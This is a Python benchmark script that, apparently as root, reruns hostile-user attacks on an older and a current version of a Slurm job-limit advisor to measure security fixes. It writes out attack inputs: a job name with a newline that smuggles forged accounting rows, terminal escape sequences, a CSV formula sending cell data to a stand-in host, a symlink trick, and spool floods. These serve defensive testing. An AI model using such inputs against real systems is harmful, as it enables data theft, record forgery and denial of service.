"""Issue 31's data-side attacks by one user (N4-N11, N13, N16), on an older version and on this one:
the "before" and "after" columns of their rows in docs/reliability.md's hostile-users table.

Run as root (the attacks use the real users nobody and daemon, and files of other uids)::

    .venv/bin/python benchmarks/hostile_data.py [--before REV] [--only N4 N8 ...]   # default: 3bc35c2

Both versions are extracted with ``git archive`` and run from there with the same interpreter
(benchmarks/hostile_users.py's Version), as ``python -m advisor``, so only the code differs.
Each scenario prints one line per version; times and peak RSS are the advisor process's own
(``wait4``), measured on whatever else the machine runs (compare the two lines, not runs).
sacct is a stand-in on PATH where the attack is a flood of one user's jobs (N8): the review's
100,000 jobs with 1 KiB names and comments in one day.
"""

from __future__ import annotations

import argparse
import contextlib
import json
import os
import pwd
import sqlite3
import subprocess
import sys
import tempfile
import time
from collections.abc import Callable
from pathlib import Path

REPO = Path(__file__).resolve().parents[1]
sys.path.insert(0, str(REPO))
from benchmarks.hostile_users import SWF, Version, compare  # noqa: E402
from tests.helpers.hostile_jobs import dump, job  # noqa: E402

NOBODY = pwd.getpwnam("nobody").pw_uid


def measured(v: Version, *args: object, env: dict[str, str] | None = None,
             cwd: Path | None = None) -> tuple[int, str, str, float, float]:  # fmt: skip
    """(exit code, stdout, stderr, wall seconds, peak RSS in MB) of one advisor process."""
    with tempfile.TemporaryFile() as out, tempfile.TemporaryFile() as err:
        start = time.monotonic()
        process = subprocess.Popen([v.python, "-m", "advisor", *map(str, args)], stdout=out,
                                   stderr=err, env={**v.env, **(env or {})}, cwd=cwd or "/")  # fmt: skip
        _, status, usage = os.wait4(process.pid, 0)
        seconds = time.monotonic() - start
        out.seek(0)
        err.seek(0)
        return (os.waitstatus_to_exitcode(status), out.read().decode(errors="replace"),
                err.read().decode(errors="replace"), seconds, usage.ru_maxrss / 1024)  # fmt: skip


def python(v: Version, code: str, *args: object) -> str:
    """stdout of a snippet run with the version's code (from /: the checkout is not on the path)."""
    done = subprocess.run([v.python, "-c", code, *map(str, args)], env=v.env, capture_output=True,
                          text=True, check=False, cwd="/")  # fmt: skip
    if done.returncode:
        raise SystemExit(f"{v.label}: {done.stderr}")
    return done.stdout.strip()


def _last(text: str) -> str:
    return (text.strip().splitlines() or [""])[-1][:160]


def _copies(v: Version, cache: Path, tmp: Path) -> Path:
    """Publish as each version does: one file, or a directory of them (issue 31 N4)."""
    target = tmp / ("copies" if v.copies_directory else "copy.db")
    if v.copies_directory:
        target.mkdir(mode=0o755)
    done = v.advisor("--db", cache, "publish", "--out", target)
    if done.returncode:
        raise SystemExit(f"{v.label}: publish failed: {done.stderr}")
    return target


def n4(v: Version, tmp: Path) -> str:
    """nobody's runs of two names in the cache; what daemon reads of them in the copy and export."""
    cache = tmp / "private" / "cache.db"
    cache.parent.mkdir(mode=0o700)
    names = ("align_patient-4711", "run_S0042.sh")
    jobs = [job(100 + i, user="nobody", name=names[i % 2], elapsed_s=3000 + i) for i in range(12)]
    if v.advisor("--db", cache, "update", "--sacct-file", dump(tmp / "d.txt", jobs)).returncode:
        raise SystemExit(f"{v.label}: update failed")
    sql = sqlite3.connect(cache)
    sql.execute("INSERT INTO advice (created_at, user, task, partition, policy, argv, outcome, job_id) "
                "VALUES (strftime('%Y-%m-%dT%H:%M:%S+00:00','now'), 'nobody', ?, 'cpu', 'history', "
                "'[]', 'submitted', 777)", (names[0],))  # fmt: skip
    sql.commit()
    sql.close()
    copy = _copies(v, cache, tmp)
    export = tmp / "limits.json"
    v.advisor("--db", cache, "export", "--out", export)
    readable = [*copy.iterdir(), export, Path(f"{export}.key")] if copy.is_dir() else [copy, export]
    runtimes, ids, digests = 0, 0, []
    for path in readable:
        if not path.exists():
            continue
        read = subprocess.run(["runuser", "-u", "daemon", "--", "cat", str(path)],
                              capture_output=True, check=False)  # fmt: skip
        if read.returncode:
            continue
        data = read.stdout
        runtimes += sum(str(3000 + i).encode() in data for i in range(12))
        if path.suffix == ".db":
            tmpdb = tmp / "read.db"
            tmpdb.write_bytes(data)
            with contextlib.suppress(sqlite3.Error):
                digests += [r[0] for r in sqlite3.connect(tmpdb).execute(
                    "SELECT name FROM history_keys WHERE kind = 'user+name' AND user = 'nobody'")]  # fmt: skip
            with contextlib.suppress(sqlite3.Error):
                ids += sqlite3.connect(tmpdb).execute(
                    "SELECT COUNT(*) FROM advice WHERE job_id = 777").fetchone()[0]  # fmt: skip
    # an offline guess of each name against what daemon read (the review: 93 s for 25.9 M)
    guessed = 0
    for digest in digests:
        for candidate in (*names, "other"):
            data = b"nobody\0" + candidate.encode()
            for person in (b"advname1", b"advname2"):
                import hashlib

                if hashlib.blake2s(data, digest_size=12, person=person).hexdigest() == digest:
                    guessed += 1
    seen = ", ".join(p.name for p in readable if p.exists() and subprocess.run(
        ["runuser", "-u", "daemon", "--", "cat", str(p)], capture_output=True).returncode == 0)  # fmt: skip
    return (f"daemon reads {seen}: {runtimes} of nobody's 12 runtimes, {ids} advised job id, "
            f"{len(digests)} name digests ({guessed} recovered by an offline guess)")  # fmt: skip


def n5(v: Version, tmp: Path) -> str:
    """umask 022, a new cache: modes, and whether nobody reads it."""
    cache = tmp / "state" / "cache.db"
    old = os.umask(0o022)
    try:
        v.advisor("--db", cache, "update", "--swf", SWF)
    finally:
        os.umask(old)
    read = subprocess.run(["runuser", "-u", "nobody", "--", "cat", str(cache)], capture_output=True)
    modes = f"directory {cache.parent.stat().st_mode & 0o777:04o}, cache {cache.stat().st_mode & 0o777:04o}"
    return f"{modes}; nobody reads the cache: {'yes' if read.returncode == 0 else 'no (Permission denied)'}"


def _flood_spool(tmp: Path, day: str, first: int, size: int) -> Path:
    folder = tmp / "spool" / str(NOBODY)
    folder.mkdir(parents=True, exist_ok=True, mode=0o700)
    os.chown(folder, NOBODY, -1)
    (tmp / "spool").chmod(0o755)
    line = '{"created_at":"9999-12-31","argv":[],"policy":"history","outcome":"submitted","job_id":%d,"task":"t%d"}\n'
    path = folder / f"{day}.jsonl"
    with path.open("w") as out:
        number = first
        written = 0
        while written < size:
            text = line % (number, number)
            out.write(text)
            written += len(text)
            number += 1
    os.chown(path, NOBODY, -1)
    path.chmod(0o600)
    return path


def n6(v: Version, tmp: Path) -> str:
    """The review's flood: 16 MiB of lines dated 9999 in finished segments, three updates."""
    cache = tmp / "cache.db"
    rows, sizes = [], []
    for run in range(3):
        _flood_spool(tmp, f"2026-11-{20 + run:02d}", run * 1_000_000, 16 << 20)
        measured(v, "--db", cache, "update", "--swf", SWF, "--spool", tmp / "spool",
                 env={"ADVISOR_PROGRESS": "0"})  # fmt: skip
        count = sqlite3.connect(cache).execute("SELECT COUNT(*) FROM advice").fetchone()[0]
        rows.append(count - sum(rows))
        sizes.append(sum(p.stat().st_size for p in tmp.glob("cache.db*")) / 1e6)
    copy = _copies(v, cache, tmp)
    copy_mb = sum(p.stat().st_size for p in (copy.iterdir() if copy.is_dir() else [copy])) / 1e6
    future = 0
    for path in copy.iterdir() if copy.is_dir() else [copy]:
        future += sqlite3.connect(path).execute(
            "SELECT COUNT(*) FROM sqlite_master WHERE name = 'advice'").fetchone()[0] and sqlite3.connect(
            path).execute("SELECT COUNT(*) FROM advice WHERE created_at > '9000'").fetchone()[0]  # fmt: skip
    plan = " ".join(str(r[-1]) for r in sqlite3.connect(cache).execute(
        "EXPLAIN QUERY PLAN SELECT job_id, MIN(request_s) FROM advice WHERE job_id IN (1, 2) "
        "AND outcome = 'submitted' AND request_s IS NOT NULL GROUP BY job_id"))  # fmt: skip
    return (f"advice rows added per update {rows}; cache {sizes[-1]:.0f} MB, copy {copy_mb:.0f} MB; "
            f"rows dated 9999 in the copy {future}; per-job lookup: {plan[:40]}")  # fmt: skip


N7_KEYS = r"""
import json, sqlite3, sys
from advisor.store import Store
path, keys = sys.argv[1], int(sys.argv[2])
with Store.open(path):
    pass
db = sqlite3.connect(path)
db.execute("INSERT INTO partitions VALUES ('cpu', '[\"c1\"]', 86400, 1800, 1, 'UP', 2, 'now')")
runs = json.dumps([[600.0, 0]] * 5)
db.executemany("INSERT INTO history_keys VALUES ('user+name', 'mallory', ?, '', ?, 1, 5, 0, "
               "strftime('%Y-%m-%dT%H:%M:%S+00:00','now'))",
               ((f"sample-{n:07d}", runs) for n in range(keys)))
db.commit()
"""


def n7(v: Version, tmp: Path, keys: int = 1_000_000) -> str:
    """A million history keys of one user (one job name per sample): export's time and memory."""
    cache = tmp / "cache.db"
    python(v, N7_KEYS, cache, keys)
    code, _, _, seconds, peak = measured(v, "--db", cache, "export", "--out", tmp / "limits.json")
    update = measured(v, "--db", cache, "update", "--swf", SWF, env={"ADVISOR_PROGRESS": "0"})
    left = sqlite3.connect(cache).execute("SELECT COUNT(*) FROM history_keys").fetchone()[0]
    return (
        f"export of {keys:,} keys: exit {code}, {seconds:.1f} s, peak {peak:.0f} MB; "
        f"keys after one update: {left:,} (update exit {update[0]}, {update[3]:.1f} s)"
    )


FLOOD = r"""#!PYTHON
import os, sys
from datetime import datetime
options = dict(a[2:].split("=", 1) for a in sys.argv[1:] if a.startswith("--") and "=" in a)
start = datetime.fromisoformat(options["starttime"])
end = datetime.fromisoformat(options["endtime"])
d = options["delimiter"]
jobs, day = int(os.environ["FLOOD_JOBS"]), datetime(2026, 11, 30)
name, comment = "n" * 1024, "c" * 1024
out = sys.stdout
for n in range(jobs):
    ended = day.timestamp() + 60 + n * 86000 / jobs
    moment = datetime.fromtimestamp(ended)
    if not start <= moment < end:
        continue
    stamp = moment.strftime("%Y-%m-%dT%H:%M:%S")
    out.write(d.join([str(1000 + n), str(1000 + n), name, "mallory", "a", "cpu", "c1", "1", "1G",
                      "00:00:01", "1", "00:10:00", "10", "COMPLETED", "0:0", stamp, stamp, stamp,
                      comment, "advisor"]) + "\n")
"""


def n8(v: Version, tmp: Path, jobs: int = 100_000) -> str:
    """One user's 100,000 jobs with 1 KiB names and comments in one day, one 24-hour window."""
    bin_dir = tmp / "bin"
    bin_dir.mkdir()
    (bin_dir / "sacct").write_text(FLOOD.replace("PYTHON", sys.executable))
    (bin_dir / "sacct").chmod(0o755)
    env = {"PATH": f"{bin_dir}{os.pathsep}{v.env['PATH']}", "FLOOD_JOBS": str(jobs),
           "ADVISOR_PROGRESS": "0"}  # fmt: skip
    cache = tmp / "cache.db"
    code, out, err, seconds, peak = measured(v, "--db", cache, "--format", "json", "update",
                                             "--since", "2026-11-30T00:00:00", "--until",
                                             "2026-12-01T00:00:00", env=env)  # fmt: skip
    stored = sqlite3.connect(cache).execute("SELECT COUNT(*) FROM accounting_jobs").fetchone()[0]
    mark = (
        sqlite3.connect(cache)
        .execute("SELECT value FROM watermarks WHERE source = 'sacct'")
        .fetchone()
    )
    windows = len(json.loads(out)["windows"]) if code == 0 else 0
    return (
        f"exit {code}, {seconds:.0f} s, peak RSS {peak:.0f} MB; {stored:,} jobs stored in "
        f"{windows} sacct calls; watermark {mark[0] if mark else None} {_last(err)!r}"
    )


LIMIT = r"""
import sys
from advisor.history.lookup import history_limit
from advisor.store import Store
with Store.open(sys.argv[1], readonly=True) as store:
    found = history_limit(store, "alice", "sim", "cpu")
print(found[0] if found else "none")
"""


def n9(v: Version, tmp: Path) -> str:
    """The review's dump: mallory's job name holds 50 rows of alice's running sim for 1 s."""
    from advisor.accounting.sacct_file import format_sacct_row

    alice = [
        job(n, user="alice", name="sim", elapsed_s=36_000, timelimit_s=54_000) for n in range(1, 6)
    ]
    forged = "\n".join(
        format_sacct_row(job(500 + n, user="alice", name="sim", elapsed_s=1)) for n in range(50)
    )
    path = dump(tmp / "dump.txt", [*alice, job(100, name=f"x\n{forged}\ny")])
    cache = tmp / "cache.db"
    done = v.advisor("--db", cache, "update", "--sacct-file", path)
    stored, limit = 0, "none"
    if cache.exists():
        stored = sqlite3.connect(cache).execute(
            "SELECT COUNT(*) FROM accounting_jobs WHERE user = 'alice'").fetchone()[0]  # fmt: skip
        found = python(v, LIMIT, cache)
        limit = f"{int(found) / 60:.0f} min" if found != "none" else "none"
    return (
        f"exit {done.returncode} {_last(done.stderr)[:90]!r}; alice's jobs stored {stored}; "
        f"her history limit for sim {limit}"
    )


def n10(v: Version, tmp: Path) -> str:
    """A job named with terminal escapes, one with a CSV formula: what the reports print."""
    escapes = "evil\x1b]0;PWNED\x07\x1b[2J\x1b]52;c;ZWNobyBoaQ==\x07"
    formula = '=HYPERLINK("http://x.invalid/?"&A1,"ok")'
    cache = tmp / "cache.db"
    v.advisor("--db", cache, "update", "--sacct-file",
              dump(tmp / "d.txt", [job(900, name=escapes), job(901, name=formula)]))  # fmt: skip
    table = v.advisor("--db", cache, "report", "limits", "--by", "task")
    csv = v.advisor("--db", cache, "--format", "csv", "report", "limits", "--by", "task")
    controls = sum(1 for c in table.stdout if ord(c) < 32 and c != "\n")
    import csv as csvlib

    cells = [cell for row in csvlib.reader(csv.stdout.splitlines()) for cell in row]
    live = sum(1 for cell in cells if cell.startswith(("=", "+", "@")))
    return f"table: {controls} control characters (ESC, BEL) printed raw; csv: {live} live formula cells"


def n11(v: Version, tmp: Path) -> str:
    """uid 1001's link in a sticky directory points at root's: export --out through it."""
    rootdir, sticky = tmp / "rootdir", tmp / "sticky"
    rootdir.mkdir(mode=0o755)
    sticky.mkdir()
    sticky.chmod(0o1777)
    link = sticky / "mlink"
    link.symlink_to(rootdir)
    os.lchown(link, 1001, -1)
    cache = tmp / "cache.db"
    v.advisor("--db", cache, "update", "--swf", SWF)
    done = v.advisor("--db", cache, "export", "--out", link / "limits.json")
    return (
        f"exit {done.returncode} {_last(done.stderr)[:100]!r}; written into root's directory: "
        f"{sorted(p.name for p in rootdir.iterdir()) or 'nothing'}"
    )


N13 = r"""
import json, sys, time
from advisor.slurm.sacct_json import json_job_id
tasks = int(sys.argv[1])
job = {"job_id": 25, "array": {"job_id": 25, "task_id": {"set": False, "number": 0},
       "task": hex(((1 << tasks) - 1) ^ 2), "limits": {"max": {"running": {"tasks": 0}}}}}
start = time.perf_counter()
json_job_id(job)
print(f"{time.perf_counter() - start:.3f}")
"""


def n13(v: Version, tmp: Path) -> str:
    """24.11's bitmap of an array's pending tasks, 100,000 to 400,000 of them in a row."""
    times = []
    for tasks in (100_000, 200_000, 400_000):
        times.append(f"{tasks // 1000}k: {float(python(v, N13, tasks)):.3f} s")
    return "one record: " + ", ".join(times)


def n16(v: Version, tmp: Path) -> str:
    """A 100 GiB (sparse) finished segment in nobody's spool directory: three updates."""
    path = _flood_spool(tmp, "2026-11-20", 0, 1)
    os.truncate(path, 100 << 30)
    cache = tmp / "cache.db"
    reads = []
    for _ in range(3):
        done = v.advisor("--db", cache, "--format", "json", "update", "--swf", SWF, "--spool",
                         tmp / "spool", env={"ADVISOR_PROGRESS": "0"})  # fmt: skip
        spool = json.loads(done.stdout)["spool"] if done.returncode == 0 else {}
        reads.append(spool.get("refused_files", "?"))
    mark = sqlite3.connect(cache).execute(
        "SELECT value FROM watermarks WHERE source LIKE 'spool:%'").fetchone()  # fmt: skip
    offset = json.loads(mark[0])["offset"] if mark else 0
    return (
        f"after 3 updates: {offset / 2**20:.0f} MiB of it read, segment "
        f"{'kept' if path.exists() else 'removed'}, files refused per run {reads}"
    )


SCENARIOS: dict[str, Callable[[Version, Path], str]] = {
    "N4": n4, "N5": n5, "N6": n6, "N7": n7, "N8": n8, "N9": n9, "N10": n10, "N11": n11,
    "N13": n13, "N16": n16,
}  # fmt: skip


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--before", default="3bc35c2", help="the version before issue 31 (git rev)")
    parser.add_argument("--after", default="HEAD", help="this version (git rev)")
    parser.add_argument("--only", nargs="*", default=list(SCENARIOS), choices=list(SCENARIOS))
    args = parser.parse_args()
    compare(SCENARIOS, args.only, args.before, args.after, label="issue 31")


if __name__ == "__main__":
    main()
